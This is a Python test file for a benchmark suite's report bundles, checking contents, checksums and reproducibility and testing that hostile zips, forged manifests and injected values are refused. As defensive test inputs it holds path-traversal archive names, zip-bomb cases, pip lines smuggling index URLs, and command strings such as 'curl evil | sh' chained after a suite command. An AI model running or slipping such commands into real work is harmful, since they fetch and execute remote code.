"""The bundle of a report: what is in it, that it is the same twice, and that a hostile one does no harm."""

import hashlib
import json
import shutil
import stat
import subprocess
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest
import yaml

from bench import store
from bench.config import RunConfig
from bench.execute import FAILURE
from bench.matrices import save_matrix
from bench.matrix import Matrix
from bench.report import bundle as bundles
from bench.report import manifest as manifests
from bench.report.build import build_report
from bench.report.bundle import check_bundle_path, unpacked, write_bundle
from bench.report.manifest import read_manifest
from bench.report.paper import Paper
from bench.report.repeat import commands, is_command, matrix_text, repeatable, versions_text
from flora.errors import BadInput
from tests.bench.report.small import SMALL, make_small_results


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    return make_small_results(tmp_path_factory.mktemp("bundle") / "results")


@pytest.fixture(scope="module")
def report(results):
    """A report, whose results lie beside it."""
    folder = results.with_name("report")
    build_report(results, folder, SMALL)
    return folder


@pytest.fixture(scope="module")
def bundle(report, results):
    return write_bundle(report, results, report.with_name("bundle.zip"))


@pytest.fixture
def opened(bundle):
    with unpacked(bundle) as folder:
        yield folder


# --- what is in it -------------------------------------------------------------------------------------


def test_holds_the_report_every_run_and_what_repeats_them(opened, report, results):
    found = {path.relative_to(opened).as_posix() for path in opened.rglob("*") if path.is_file()}
    of_report = {f"report/{p.relative_to(report).as_posix()}" for p in report.rglob("*") if p.is_file()}
    of_runs = {
        f"runs/{path.parent.relative_to(results).as_posix()}/{name}"
        for path in store.run_files(results)
        for name in ("run.json", "ledger.csv", "clients.csv", "rounds.csv")
    }
    told = {"README.md", "COMMANDS.md", "matrix.yaml", "paper.yaml", "versions.txt", "SHA256SUMS"}
    assert found == of_report | of_runs | told
    for name in of_report - {"report/report.json"}:
        assert (opened / name).read_bytes() == (report / name.removeprefix("report/")).read_bytes()
    for name in of_runs:
        assert (opened / name).read_bytes() == (results / name.removeprefix("runs/")).read_bytes()


def test_checksums_are_those_that_sha256sum_reads(opened):
    lines = (opened / "SHA256SUMS").read_text().splitlines()
    names = [line[66:] for line in lines]
    assert names == sorted(names)
    assert {*names, "SHA256SUMS"} == {
        path.relative_to(opened).as_posix() for path in opened.rglob("*") if path.is_file()
    }
    for line in lines:
        assert hashlib.sha256((opened / line[66:]).read_bytes()).hexdigest() == line[:64]
    if shutil.which("sha256sum"):
        done = subprocess.run(
            ["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=opened, capture_output=True, check=False
        )
        assert done.returncode == 0, done.stderr


def test_the_same_report_gives_the_same_bytes(bundle, results, tmp_path):
    build_report(results, tmp_path / "elsewhere", SMALL)
    again = write_bundle(tmp_path / "elsewhere", results, tmp_path / "new" / "again.zip")
    assert again.read_bytes() == bundle.read_bytes()


def test_tells_nothing_of_the_machine_but_what_runs_recorded(opened, results):
    for path in opened.rglob("*"):
        if path.is_file() and path.relative_to(opened).parts[0] != "runs":
            text = path.read_bytes().decode("utf-8", errors="replace")
            assert str(results.parent) not in text, path
            assert str(Path.home() / "") + "/" not in text, path


def test_matrix_asks_for_the_runs_and_no_others(opened, results):
    cells = Matrix.read(str(opened / "matrix.yaml")).cells()
    assert {cell.hash for cell in cells} == {path.parent.name for path in store.run_files(results)}


def test_settings_are_those_of_the_report(opened):
    assert Paper.read(opened / "paper.yaml") == SMALL


def test_commands_and_versions_can_be_followed(opened, results):
    told = (opened / "COMMANDS.md").read_text()
    assert "flora-bench run matrix.yaml --results again" in told
    assert "flora-bench report runs --paper paper.yaml" in told
    assert "flora-bench run small.yaml --results results" in told  # as it was typed, without its folders
    recorded = store.load_run(store.run_files(results)[0])["environment"]["packages"]
    pins = [line for line in (opened / "versions.txt").read_text().splitlines() if not line.startswith("#")]
    assert pins == [f"{name}=={number}" for name, number in sorted(recorded.items())]


def test_cells_that_failed_are_told_without_what_a_traceback_tells(results, tmp_path):
    copied = tmp_path / "results"
    shutil.copytree(results, copied)
    folder = copied / "digits" / "flora" / "0123456789ab"
    folder.mkdir()
    (folder / FAILURE).write_text(json.dumps({"reason": "out of memory", "traceback": "/home/me/x.py"}))
    build_report(copied, tmp_path / "report", SMALL)
    with unpacked(write_bundle(tmp_path / "report", copied, tmp_path / "b.zip")) as opened:
        noted = opened / "runs" / "digits" / "flora" / "0123456789ab" / FAILURE
        assert json.loads(noted.read_text()) == {"reason": "out of memory"}


# --- when it cannot be written -------------------------------------------------------------------------


def test_a_run_that_changed_since_the_report_is_not_packed(report, results, tmp_path):
    copied = tmp_path / "results"
    shutil.copytree(results, copied)
    changed = sorted(store.run_files(copied))[-1]
    changed.write_text(changed.read_text().replace('"loss"', '"loss" '))
    earlier = tmp_path / "bundle.zip"
    before = write_bundle(report, results, earlier).read_bytes()
    with pytest.raises(BadInput, match=rf"{changed.parent.name}.*make the report again"):
        write_bundle(report, copied, earlier)
    assert earlier.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["bundle.zip", "results"]


@pytest.mark.parametrize("content", [b"my thesis", b"PK\x03\x04"])
def test_a_file_that_is_no_bundle_is_never_written_over(content, report, results, tmp_path):
    mine = tmp_path / "thesis.zip"
    mine.write_bytes(content)
    with pytest.raises(BadInput, match=r"--bundle: .*thesis\.zip' is there and no bundle"):
        write_bundle(report, results, mine)
    assert mine.read_bytes() == content


def test_a_zip_of_something_else_is_never_written_over(report, results, tmp_path):
    mine = zipped(tmp_path / "mine.zip", ("SHA256SUMS", "x"))
    with pytest.raises(BadInput, match="is there and no bundle"):
        write_bundle(report, results, mine)
    write_bundle(report, results, write_bundle(report, results, tmp_path / "again.zip"))


@pytest.mark.parametrize(
    ("name", "complaint"),
    [
        ("", "is a folder"),
        ("..", "is a folder"),
        ("tables/b.zip", "the report's own place"),
        ("figures/sub/b.zip", "the report's own place"),
        ("x/../tables/b.zip", "the report's own place"),
        ("index.html", "the report's own place"),
        ("report.json", "the report's own place"),
    ],
)
@pytest.mark.parametrize("there", [True, False])
def test_a_place_that_is_the_reports_is_refused_before_there_is_one(name, complaint, there, report, tmp_path):
    out = report if there else tmp_path / "new" / "report"
    with pytest.raises(BadInput, match=complaint):
        check_bundle_path(out / name, out)
    check_bundle_path(out / "mine.zip", out)
    check_bundle_path(out.parent / "tables" / "mine.zip", out)


def test_what_no_check_would_unpack_is_not_packed(report, results, tmp_path, monkeypatch):
    monkeypatch.setattr(bundles, "MOST_BYTES_A_FILE", 1000)
    with pytest.raises(BadInput, match=r"'report/.* unpacks to more than"):
        write_bundle(report, results, tmp_path / "bundle.zip")
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_takes_no_files_is_named(report, results, tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(BadInput, match=r"--bundle: .*cannot be written"):
        write_bundle(report, results, tmp_path / "file" / "bundle.zip")


def test_a_folder_without_a_report_is_named(results, tmp_path):
    with pytest.raises(BadInput, match=r"is no report, it holds no report\.json"):
        write_bundle(tmp_path, results, tmp_path / "bundle.zip")


# --- one of anybody's ----------------------------------------------------------------------------------


def zipped(path, *entries, **options):
    """A zip of (name or ZipInfo, content)."""
    with zipfile.ZipFile(path, "w", **options) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that are there twice
        for name, content in entries:
            archive.writestr(name, content)
    return path


@pytest.mark.parametrize(
    "name",
    ["../up.txt", "a/../../up.txt", "/etc/up.txt", "C:/up.txt", "a\\..\\..\\up.txt", "./a", "a//b", "a\nb"],
)
def test_paths_that_lead_elsewhere_are_refused(name, tmp_path):
    path = zipped(tmp_path / "b.zip", ("README.md", "x"), (name, "x"))
    with pytest.raises(BadInput, match="no bundle of ours has such a path"), unpacked(path):
        pass
    assert [found.name for found in tmp_path.iterdir()] == ["b.zip"]


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
def test_links_and_devices_are_refused(kind, tmp_path):
    entry = zipfile.ZipInfo("runs")
    entry.external_attr = (kind | 0o777) << 16
    with (
        pytest.raises(BadInput, match="is a link or no file"),
        unpacked(zipped(tmp_path / "b.zip", (entry, "/etc"))),
    ):
        pass


@pytest.mark.parametrize("names", [("a.txt", "a.txt"), ("a.txt", "A.TXT"), ("\u00e4", "a\u0308")])
def test_a_name_that_is_there_twice_is_refused(names, tmp_path):
    path = zipped(tmp_path / "b.zip", *((name, "x") for name in names))
    with pytest.raises(BadInput, match="twice"), unpacked(path):
        pass


def test_a_file_in_place_of_a_folder_is_refused(tmp_path):
    with (
        pytest.raises(BadInput, match="no whole zip"),
        unpacked(zipped(tmp_path / "b.zip", ("a", "x"), ("a/b", "x"))),
    ):
        pass


def test_what_unpacks_to_too_much_is_refused(tmp_path, monkeypatch):
    path = zipped(tmp_path / "b.zip", ("a", bytes(2**20)), ("b", "x"), compression=zipfile.ZIP_DEFLATED)
    assert path.stat().st_size < 2**14
    with unpacked(path) as folder:
        assert (folder / "a").stat().st_size == 2**20
    monkeypatch.setattr(bundles, "MOST_BYTES", 2**20)
    with pytest.raises(BadInput, match=r"unpacks to more than .* the most of a bundle"), unpacked(path):
        pass
    monkeypatch.setattr(bundles, "MOST_BYTES_A_FILE", 2**20 - 1)
    with pytest.raises(BadInput, match=r"'a' unpacks to more than .* the most in a bundle"), unpacked(path):
        pass
    monkeypatch.setattr(bundles, "MOST_FILES", 1)
    with pytest.raises(BadInput, match="holds 2 files, a bundle at most 1"), unpacked(path):
        pass


def test_a_file_that_says_it_is_small_does_not_fill_the_memory(tmp_path):
    size = 2**27
    path = zipped(tmp_path / "b.zip", ("a", bytes(size)), compression=zipfile.ZIP_DEFLATED)
    packed = bytearray(path.read_bytes())
    for declared in (size, 2**25):  # too much by what it says, and by what is in it
        at = packed.rindex(b"PK\x01\x02") + 24
        packed[at : at + 4] = declared.to_bytes(4, "little")
        path.write_bytes(packed)
        tracemalloc.start()
        with pytest.raises(BadInput, match=r"unpacks to more than|is no whole zip"), unpacked(path):
            pass
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 2**24


def test_what_is_packed_otherwise_is_refused(tmp_path):
    path = zipped(tmp_path / "b.zip", ("a", "x" * 99), compression=zipfile.ZIP_BZIP2)
    with pytest.raises(BadInput, match="packed in an unusual way"), unpacked(path):
        pass


@pytest.mark.parametrize("damage", ["cut short", "a byte changed", "no zip"])
def test_a_damaged_zip_is_named(damage, bundle, tmp_path):
    content = bytearray(bundle.read_bytes())
    if damage == "cut short":
        del content[len(content) // 2 :]
    elif damage == "a byte changed":
        content[len(content) // 3] ^= 1
    else:
        content = b"PK, though not quite"
    path = tmp_path / "b.zip"
    path.write_bytes(content)
    with pytest.raises(BadInput, match="is no whole zip"), unpacked(path):
        pass


# --- what repeats runs ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "matrix",
    [
        Matrix(seed=[0, 1, 10], method=["flora", "zero_shot"], split=["iid", {"name": "iid", "shots": 4}]),
        Matrix(
            method=[{"name": "flora", "rank": [2, 4], "places": [["vision.out"], ["text.out", "text.head"]]}]
        ),
        Matrix(optimizer={"name": "adam", "betas": [[0.9, 0.98], [0.8, 0.9]]}, participation=[0.5, 1]),
        Matrix(seed=[{"split": 0, "participation": 1, "init": 2, "order": 3}, 4], codec=["fp32", "fp16"]),
        Matrix(
            data={"root": "/home/me/data"},
            tuning={"grid": "[1, 2]", "trials": 2, "chosen": {"x": [1]}, "validation_accuracy": 0.5},
        ),
        Matrix(include=[{"rounds": 3, "clients": [2, 3]}, {"method": "linear_probe"}], seed=[0, 1]),
    ],
    ids=["product", "lists", "betas", "seeds", "tuning", "include"],
)
def test_a_matrix_of_stored_configurations_gives_just_these(matrix, tmp_path):
    cells = [cell.model_copy(update={"device": "cpu"}) for cell in matrix.cells()]
    text = matrix_text([cell.model_dump(mode="json") for cell in cells])
    (tmp_path / "matrix.yaml").write_text(text)
    assert {cell.hash for cell in Matrix.read(str(tmp_path / "matrix.yaml")).cells()} == {
        c.hash for c in cells
    }
    assert "/home/me" not in text


def test_a_product_is_written_as_one():
    cells = Matrix(seed=[0, 1], method=["flora", "linear_probe"], rounds=[1, 2, 3]).cells()
    content = yaml.safe_load(matrix_text([cell.model_dump(mode="json") for cell in reversed(cells)]))
    assert "include" not in content
    assert (content["seed"], content["rounds"]) == ([0, 1], [1, 2, 3])


def test_a_configuration_of_another_version_is_not_promised():
    config = RunConfig.read({"device": "cpu"})
    stored = config.model_dump(mode="json")
    assert repeatable(stored, config.hash)
    assert repeatable({**stored, "device": "cuda"}, config.model_copy(update={"device": "cuda"}).hash)
    assert not repeatable(stored, "0123456789ab")
    assert not repeatable({**stored, "a_field_of_tomorrow": 1}, config.hash)


def test_commands_are_given_without_the_paths_of_a_machine(tmp_path):
    cell = RunConfig.read({"device": "cpu"})
    typed = [
        "flora-bench",
        "run",
        "/home/me/a b.yaml",
        "--results=/data/x/out",
        "--set",
        "task=folder:/home/me/pets",
    ]
    save_matrix(tmp_path, [cell], command=[*typed, "--set", "rounds=5", "--cache", "~/cache/", "sub/m.yaml"])
    save_matrix(tmp_path, [cell.model_copy(update={"rounds": 3})], command=["flora-bench", "run", "other"])
    assert commands(tmp_path, {cell.hash}) == [
        "flora-bench run 'a b.yaml' --results=out --set task=folder:pets --set rounds=5 --cache '' sub/m.yaml"
    ]


def test_versions_of_most_runs_are_pinned_and_others_told_by_run():
    one = {"suite": "0.1.0", "python": "3.11.7", "packages": {"torch": "2.4.0", "numpy": "2.0.0"}}
    other = {**one, "packages": {"torch": "2.3.0"}, "git_commit": "abc", "git_dirty": True}
    text = versions_text({"a/run.json": other, "b/run.json": one, "c/run.json": one})
    assert text == (
        "# 2 of 3 runs:\n# flora-bench 0.1.0, Python 3.11.7\nnumpy==2.0.0\ntorch==2.4.0\n\n"
        "# 1 others, a/run.json:\n# # flora-bench 0.1.0 (commit abc, with changes), Python 3.11.7\n"
        "# torch==2.3.0\n"
    )


def test_versions_hold_nothing_that_pip_would_do_besides():
    packages = {"torch": "2.4.0", "numpy\n--index-url http://x": "1", "a": "1\n-r http://x", "b": "1 # x"}
    run = {"suite": "0.1.0\nevil==1", "python": "3.11\nevil==1", "packages": packages}
    lines = versions_text({"a/run.json": run}).splitlines()
    assert [line for line in lines if not line.startswith("#")] == ["torch==2.4.0"]


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("flora-bench run small.yaml --results results", True),
        ("flora-bench run 'a; b.yaml'", True),
        ("flora-bench run a.yaml; curl evil | sh", False),
        ("flora-bench run $(curl evil)", False),
        ("curl evil", False),
        ("flora-bench run 'open", False),
    ],
)
def test_a_command_of_this_suite_does_nothing_else(text, is_one):
    assert is_command(text) is is_one


# --- the manifest --------------------------------------------------------------------------------------


def test_the_manifest_names_all_that_the_report_is_made_of_and_consists_of(report, results):
    manifest = read_manifest(report)
    assert {run.path: run.sha256 for run in manifest.runs} == {
        path.relative_to(results).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in store.run_files(results)
    }
    assert {file.path: (file.bytes, file.sha256) for file in manifest.files} == {
        path.relative_to(report).as_posix(): (
            path.stat().st_size,
            hashlib.sha256(path.read_bytes()).hexdigest(),
        )
        for path in report.rglob("*")
        if path.is_file() and path.name != "report.json"
    }
    assert Paper.of(manifest.paper) == SMALL
    assert manifest.results == "../results"
    assert manifest.versions == manifests.drawing_versions()
    for shown in (*manifest.figures, *manifest.tables):
        assert (report / shown.csv).stem == shown.name
    assert manifest.figures
    assert manifest.tables


def test_the_manifest_never_tells_where_a_home_is(tmp_path, monkeypatch):
    monkeypatch.setattr(Path, "home", lambda: tmp_path / "home" / "me")
    home = tmp_path / "home" / "me"
    seen = manifests._as_seen_from
    assert seen(home / "paper" / "report", home / "results") == "../../results"
    assert seen(tmp_path / "report", tmp_path / "results") == "../results"
    assert seen(tmp_path / "report", home / "results") is None
    assert seen(Path("/somewhere/report"), Path("/elsewhere/results")) is None


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        ({"schema": 99}, "has schema 99, this suite reads up to 1"),
        ({"schema": "1"}, "schema: '1'"),
        ({"files": [{"path": "../../x", "bytes": 1, "sha256": "0" * 64}]}, r"files\.0\.path: '\.\./\.\./x'"),
        ({"files": [{"path": "x", "bytes": -1, "sha256": "0" * 64}]}, r"files\.0\.bytes"),
        ({"files": [{"path": "x", "bytes": 1, "sha256": "0"}]}, r"files\.0\.sha256"),
        ({"runs": [{"path": "/etc/passwd"}]}, r"runs\.0\.path"),
        ({"more": 1}, "more"),
        ({"suite": "0.1\n\n    curl evil | sh"}, "suite: '0.1"),
        ({"versions": {"numpy": "\x1b[2J"}}, r"versions\.numpy"),
    ],
)
def test_a_manifest_that_cannot_be_is_refused(change, complaint, report, tmp_path):
    content = json.loads((report / "report.json").read_text())
    (tmp_path / "report.json").write_text(json.dumps({**content, **change}))
    with pytest.raises(BadInput, match=complaint) as refused:
        read_manifest(tmp_path)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "{}", "\xff", "[" * 100_000])
def test_a_manifest_that_is_none_is_refused(text, tmp_path):
    (tmp_path / "report.json").write_bytes(text.encode("latin-1"))
    with pytest.raises(BadInput, match=r"report\.json"):
        read_manifest(tmp_path)
